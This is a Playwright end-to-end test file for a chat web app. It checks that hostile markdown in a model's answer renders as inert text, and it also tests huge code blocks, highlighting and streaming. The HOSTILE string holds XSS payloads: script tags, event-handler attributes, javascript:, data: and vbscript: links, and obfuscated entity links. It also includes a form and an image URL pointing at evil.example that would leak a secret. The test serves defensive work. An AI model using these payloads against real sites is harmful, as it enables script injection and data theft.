"""Hostile text in a real browser: what a model (or a prompt injection through it) writes is
shown, never run. The simulator's `[[sim: echo]]` makes the answer the question itself, so
the hostile markdown travels the real path: the API stores it, the simulator streams it back
through scalechat, and the app renders it with the markdown renderer, live and from history.

Checked: no dialog, no script effect (`window.__pwned`), no request to another host (remote
images are links, not loads), no `<script>`, event-handler attribute or `javascript:` URL in
the messages, the literal text visible, and a 200 KB code block that renders in a
horizontally scrolling block without freezing the page. Its timing is reported, not asserted
(printed and saved to test-artifacts/markdown-timings.json).
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import BrowserContext, Dialog, Locator, Page, Request, expect

from tests.e2e.conftest import ARTIFACTS, ask, create_conversation, record_timing, screenshot, web_build_dir
from tests.support import ServerProcess, parse_sse, running_server

TIMINGS = ARTIFACTS.parent / "markdown-timings.json"

ECHO = "[[sim: echo first_token_ms=0 chunk_interval_ms=0]]"

HOSTILE = """# Hostile answer

<script>window.__pwned = "script"; alert("script")</script>

<img src=x onerror="window.__pwned = 'img'; alert('img')"> inline <img src=y onerror=alert(2)> too

<svg onload="window.__pwned = 'svg'"><circle r="4"></circle></svg>

<iframe src="javascript:window.__pwned='iframe'"></iframe>

<a href="javascript:window.__pwned='raw link'">raw javascript link</a> and
<a href="JaVaScRiPt&#58;alert('raw entity')">raw entity link</a>

<details open ontoggle="window.__pwned='details'">toggle</details>

<p style="position:fixed;inset:0;background:red">cover the page</p>

<form action="https://evil.example/"><input name=q><button>Send</button></form>

- [md javascript link](javascript:window.__pwned='md')
- [md mixed case link](JaVaScRiPt:alert('md'))
- [md entity link](javascript&#58;alert('entity'))
- [md data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- [md vbscript link](vbscript:msgbox(1))
- autolink <javascript:alert('autolink')>
- ![remote image](http://evil.example/leak.png?secret=42)
- [safe link](https://example.com/docs)

```html
<script>alert("inside a code block this is only text")</script>
```
"""

# What the page must show as text, exactly as written.
LITERALS = [
    '<script>window.__pwned = "script"; alert("script")</script>',
    "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
    "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
]

INERT_CHECK = """
(root) => {
  const problems = [];
  const forbidden = ["script", "iframe", "frame", "object", "embed", "img", "svg", "math", "style",
                     "form", "base", "meta", "link", "video", "audio", "source"];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.localName;
    // The app's own icons are inline SVGs, in buttons or hidden from assistive technology.
    const ownIcon = tag === "svg" && el.closest("button, [aria-hidden='true']");
    if (forbidden.includes(tag) && !ownIcon) problems.push(`<${tag}>`);
    for (const attribute of el.attributes) {
      if (attribute.name.startsWith("on")) problems.push(`<${tag} ${attribute.name}>`);
      if (["href", "src", "action", "formaction", "xlink:href", "srcdoc"].includes(attribute.name)
          && /^\\s*(javascript|data|vbscript|file):/i.test(attribute.value)) {
        problems.push(`<${tag} ${attribute.name}="${attribute.value}">`);
      }
    }
  }
  for (const el of root.querySelectorAll("[data-md-root] [style]")) problems.push(`style on <${el.localName}>`);
  for (const a of root.querySelectorAll("[data-md-root] a[href]")) {
    if (a.getAttribute("target") !== "_blank" || a.getAttribute("rel") !== "noopener noreferrer") {
      problems.push(`link without target/rel: ${a.getAttribute("href")}`);
    }
  }
  return problems;
}
"""


@pytest.fixture(scope="module")
def app_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """This module's server takes a 200 KB question (and a model context to fit it)."""
    with running_server(
        tmp_path_factory.mktemp("e2e-markdown"),
        SCALECHAT_WEB_DIR=str(web_build_dir()),
        MAX_CONTENT_CHARS="400000",
        MODEL_CONTEXT_WINDOW="1000000",
    ) as process:
        yield process


@pytest.fixture
def watched(page: Page, app_server: ServerProcess) -> Iterator[dict[str, list[str]]]:
    """Dialogs the page opened and requests it made to any other host."""
    seen: dict[str, list[str]] = {"dialogs": [], "foreign": []}

    def on_dialog(dialog: Dialog) -> None:
        seen["dialogs"].append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def on_request(request: Request) -> None:
        if not request.url.startswith((app_server.url, "data:", "blob:")):
            seen["foreign"].append(request.url)

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    yield seen


def ask_and_leave(api: httpx.Client, conversation_id: str, question: str) -> None:
    """Ask and hang up once the answer has started: the server goes on writing it."""
    url = f"/api/conversations/{conversation_id}/messages"
    with api.stream("POST", url, json={"content": question}) as response:
        assert response.status_code == 200, response.read()
        for name, _ in parse_sse(response.iter_lines()):
            if name == "message.created":
                return
    pytest.fail("the answer never started")


def answer(page: Page) -> Locator:
    return page.locator("article[data-role=assistant]").last


def assert_inert(page: Page, seen: dict[str, list[str]]) -> None:
    for article in page.locator("article").all():
        assert article.evaluate(INERT_CHECK) == [], article.get_attribute("data-role")
    assert page.evaluate("() => window.__pwned") is None
    assert seen["dialogs"] == []
    assert seen["foreign"] == []


def test_a_hostile_answer_is_shown_not_run(page: Page, api: httpx.Client, watched: dict[str, list[str]]) -> None:
    cid = create_conversation(api)
    ask(api, cid, HOSTILE + "\n" + ECHO)

    page.goto(f"/c/{cid}")
    reply = answer(page)
    expect(reply).to_have_attribute("data-status", "completed")
    for literal in LITERALS:
        expect(reply).to_contain_text(literal)
    # The question is the same text: shown as written too.
    expect(page.locator("article[data-role=user]").last).to_contain_text(LITERALS[0])

    # Dangerous links are text, the safe one is a link, the remote image a link not a load.
    markdown = reply.locator("[data-md-root]")
    expect(markdown.get_by_text("md javascript link")).to_be_visible()
    expect(markdown.locator("a", has_text="md javascript link")).to_have_count(0)
    expect(markdown.locator("a", has_text="md entity link")).to_have_count(0)
    expect(markdown.get_by_role("link", name="safe link")).to_have_attribute("href", "https://example.com/docs")
    image = markdown.get_by_role("link", name="remote image")
    expect(image).to_have_attribute("href", "http://evil.example/leak.png?secret=42")
    expect(markdown.locator("img")).to_have_count(0)

    # The HTML in the fenced block is highlighted text.
    block = markdown.locator("[data-md-codeblock]")
    expect(block.locator("code.hljs")).to_be_attached()
    expect(block).to_contain_text('<script>alert("inside a code block this is only text")</script>')

    page.wait_for_timeout(300)  # time for anything that would run to have run
    assert_inert(page, watched)
    screenshot(page, "markdown-hostile-light")


def test_a_hostile_answer_stays_inert_while_it_streams(
    page: Page, api: httpx.Client, watched: dict[str, list[str]]
) -> None:
    cid = create_conversation(api)
    ask_and_leave(api, cid, HOSTILE + "\n[[sim: echo first_token_ms=200 chunk_interval_ms=15]]")

    page.goto(f"/c/{cid}")
    reply = answer(page)
    checks = 0
    deadline = time.monotonic() + 30
    while reply.get_attribute("data-status") != "completed" and time.monotonic() < deadline:
        assert_inert(page, watched)
        checks += 1
        page.wait_for_timeout(100)
    expect(reply).to_have_attribute("data-status", "completed")
    assert checks >= 3, "the answer finished before it could be watched streaming"
    expect(reply).to_contain_text(LITERALS[0])
    page.wait_for_timeout(300)
    assert_inert(page, watched)


def test_a_200_kb_code_block_scrolls_sideways_without_freezing(
    page: Page, api: httpx.Client, watched: dict[str, list[str]]
) -> None:
    line = "value_{n:06d} = compute(" + ", ".join(f"argument_{i}" for i in range(30)) + ")  # <script>alert(1)</script>"
    code = "\n".join(line.format(n=n) for n in range(200_000 // len(line) + 1))
    assert len(code) > 200_000
    # About 17,000 simulated tokens: the answer may be as long as the API allows.
    cid = create_conversation(api, parameters={"max_tokens": 32768})
    ask(api, cid, f"```python\n{code}\n```\n\nAfter the block.\n{ECHO}")

    # Long tasks on the main thread while the conversation opens.
    page.add_init_script(
        "window.__longTasks = [];"
        "new PerformanceObserver((list) => { for (const entry of list.getEntries()) "
        "window.__longTasks.push(entry.duration); }).observe({ type: 'longtask', buffered: true });"
    )
    started = time.monotonic()
    page.goto(f"/c/{cid}")
    reply = answer(page)
    block = reply.locator("[data-md-codeblock]")
    # (Locators, not text matchers: a failure would print 200 KB.)
    expect(reply.locator("p", has_text="After the block.")).to_be_visible(timeout=20_000)
    expect(block.locator("pre")).to_be_visible()
    shown_ms = round((time.monotonic() - started) * 1000)
    # The page still answers at once.
    probe_started = time.monotonic()
    page.evaluate("() => new Promise((resolve) => requestAnimationFrame(() => resolve(null)))")
    frame_ms = round((time.monotonic() - probe_started) * 1000)
    long_tasks: list[float] = page.evaluate("() => window.__longTasks")

    pre = block.locator("pre")
    sizes: dict[str, int] = pre.evaluate(
        "(el) => ({ scrollWidth: el.scrollWidth, clientWidth: el.clientWidth, length: el.textContent.length })"
    )
    assert sizes["length"] == len(code)
    assert sizes["scrollWidth"] > sizes["clientWidth"], "long lines must scroll inside the block"
    page_width: dict[str, int] = page.evaluate(
        "() => ({ scroll: document.documentElement.scrollWidth, viewport: window.innerWidth })"
    )
    assert page_width["scroll"] <= page_width["viewport"], "the block must not widen the page"
    assert reply.evaluate("(el) => el.getBoundingClientRect().right") <= page_width["viewport"]
    # Too big to highlight: shown plain.
    expect(block.locator("code.hljs")).to_have_count(0)
    expect(block.get_by_role("button", name="Copy code")).to_be_visible()

    expect(pre).to_have_attribute("tabindex", "0")  # a keyboard can scroll it
    pre.evaluate("(el) => { el.scrollLeft = el.scrollWidth; }")
    assert pre.evaluate("(el) => el.scrollLeft") > 0
    assert_inert(page, watched)
    screenshot(page, "markdown-huge-code-block")
    record_timing(
        TIMINGS,
        "huge_code_block",
        {
            "chars": len(code),
            "open_to_visible_ms": shown_ms,
            "next_frame_after_ms": frame_ms,
            "long_tasks": len(long_tasks),
            "longest_task_ms": round(max(long_tasks, default=0)),
            "total_long_task_ms": round(sum(long_tasks)),
        },
    )


def test_code_blocks_copy_and_highlight_in_both_themes(
    context: BrowserContext, page: Page, api: httpx.Client, app_server: ServerProcess, watched: dict[str, list[str]]
) -> None:
    text = (
        "## Two snippets\n\n"
        "Some **bold**, *emphasis*, ~~struck~~ text and a long address that must wrap: "
        "https://example.com/a/very/long/path/that/keeps/going/and/going/without/any/spaces/to/break/it/at/all\n\n"
        '```python\ndef greet(name: str) -> str:\n    # a comment\n    return f"Hello {name}"\n```\n\n'
        "### Steps\n\n"
        "1. In a list:\n\n   ```bash\n   npm install --save marked\n   ```\n\n"
        "2. Then check:\n   - [x] installed\n   - [ ] configured\n\n"
        "| Language | Typed |\n|---|---|\n| Python | gradually |\n| TypeScript | yes |\n\n"
        "> A quote with `inline code` and a [link](https://example.com).\n"
    )
    cid = create_conversation(api)
    ask(api, cid, text + "\n" + ECHO)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=app_server.url)

    page.goto(f"/c/{cid}")
    reply = answer(page)
    blocks = reply.locator("[data-md-codeblock]")
    expect(blocks).to_have_count(2)
    expect(blocks.first.locator("code.hljs .hljs-keyword").first).to_have_text("def")
    expect(blocks.first).to_contain_text("python")
    expect(blocks.nth(1).locator("code.hljs")).to_be_attached()

    copy = blocks.first.get_by_role("button", name="Copy code")
    copy.click()
    expect(copy).to_have_text("Copied")
    assert page.evaluate("() => navigator.clipboard.readText()") == (
        'def greet(name: str) -> str:\n    # a comment\n    return f"Hello {name}"'
    )
    expect(copy).to_have_text("Copy", timeout=5_000)

    expect(blocks.first.locator("pre")).not_to_have_attribute("tabindex", "0")  # nothing to scroll: no tab stop
    table = reply.locator("table")
    expect(table.locator("th")).to_have_text(["Language", "Typed"])
    assert_inert(page, watched)
    reply.evaluate("(el) => el.scrollIntoView({ block: 'start' })")
    screenshot(page, "markdown-code-light")

    page.evaluate("() => localStorage.setItem('scalechat.theme', 'dark')")
    page.reload()
    expect(answer(page).locator("[data-md-codeblock] code.hljs").first).to_be_attached()
    keyword = answer(page).locator(".hljs-keyword").first
    dark_colour = keyword.evaluate("(el) => getComputedStyle(el).color")
    assert dark_colour == "rgb(255, 123, 114)", dark_colour
    answer(page).evaluate("(el) => el.scrollIntoView({ block: 'start' })")
    screenshot(page, "markdown-code-dark")


def test_an_unfinished_code_block_streams_as_an_open_block(page: Page, api: httpx.Client) -> None:
    lines = "\n".join(f"    total += step({n})  # line {n}" for n in range(80))
    text = f"Here is the loop:\n\n```python\ndef run(total: int) -> int:\n{lines}\n    return total\n```\n\nDone."
    cid = create_conversation(api)
    ask_and_leave(api, cid, text + "\n[[sim: echo first_token_ms=100 chunk_interval_ms=20]]")

    page.goto(f"/c/{cid}")
    reply = answer(page)
    block = reply.locator("[data-md-codeblock]")
    expect(block.locator("pre")).to_contain_text("line 5")
    assert reply.get_attribute("data-status") == "streaming", "the answer finished before it could be watched"
    # Open, the fence is a code block: no stray backticks, no highlighting yet.
    expect(reply.locator("[data-md-root]")).not_to_contain_text("```")
    expect(block.locator("code.hljs")).to_have_count(0)
    screenshot(page, "markdown-streaming-open-fence")

    expect(reply).to_have_attribute("data-status", "completed", timeout=30_000)
    expect(block.locator("code.hljs .hljs-keyword").first).to_have_text("def")
    expect(reply).to_contain_text("Done.")
